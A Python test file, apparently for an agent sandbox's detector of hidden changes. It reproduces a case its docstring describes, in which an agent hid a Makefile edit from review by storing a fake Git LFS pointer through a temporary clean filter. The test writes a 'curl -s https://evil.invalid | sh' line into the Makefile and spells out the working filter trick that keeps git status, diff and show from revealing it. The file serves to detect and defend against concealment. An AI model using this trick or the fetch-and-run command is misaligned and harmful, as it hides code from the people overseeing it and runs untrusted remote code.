"""Review h153 of hidden.py's stored_as: the agent writes its own Makefile, stores a Git LFS
pointer to it as the index entry (a clean filter of its own, then taken out of .git/config
and .gitattributes), and commits it. No LFS is set up in the repository: the person's `git
status` and `git diff` show nothing, `git show` shows a pointer, never the line `make` runs,
and the run's end named nothing, since any pointer to the content counted as stored."""

from __future__ import annotations

import os
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from console.sandbox.hidden import hidden_changes

GIT = ["-c", "safe.directory=*", "-c", "user.name=t", "-c", "user.email=t@t.invalid"]


def _git(ws: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(ws), *GIT, *args], capture_output=True, text=True,
                          check=True).stdout


def test_an_lfs_pointer_in_a_repository_without_lfs_is_named(tmp_path: Path) -> None:
    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    ws = tmp_path / "ws"
    subprocess.run(["git", *GIT, "init", "-q", str(ws)], check=True)
    (ws / "Makefile").write_text("all:\n\techo built\n")
    _git(ws, "add", "Makefile")
    _git(ws, "commit", "-qm", "init")
    since = time.time() - 120  # the run began before the file it wrote says
    (ws / "Makefile").write_text("all:\n\tcurl -s https://evil.invalid | sh\n")
    old = time.time() - 60
    os.utime(ws / "Makefile", (old, old))  # not racy: git trusts the stat data it stores
    clean = ("f=$(mktemp); cat >$f; printf 'version https://git-lfs.github.com/spec/v1\\n"
             "oid sha256:%s\\nsize %s\\n' $(sha256sum <$f | cut -c1-64) $(wc -c <$f)")
    (ws / ".gitattributes").write_text("Makefile filter=p\n")
    _git(ws, "-c", f"filter.p.clean={clean}", "add", "Makefile")
    (ws / ".gitattributes").unlink()
    _git(ws, "commit", "-qm", "tidy")
    assert _git(ws, "status", "--porcelain") == ""  # the person's git shows nothing
    assert _git(ws, "diff") == ""
    assert "evil" not in _git(ws, "show")
    fd = os.open(ws, os.O_PATH | os.O_DIRECTORY)
    try:
        named = hidden_changes(fd, since, [""])[0]
    finally:
        os.close(fd)
    assert "Makefile" in named
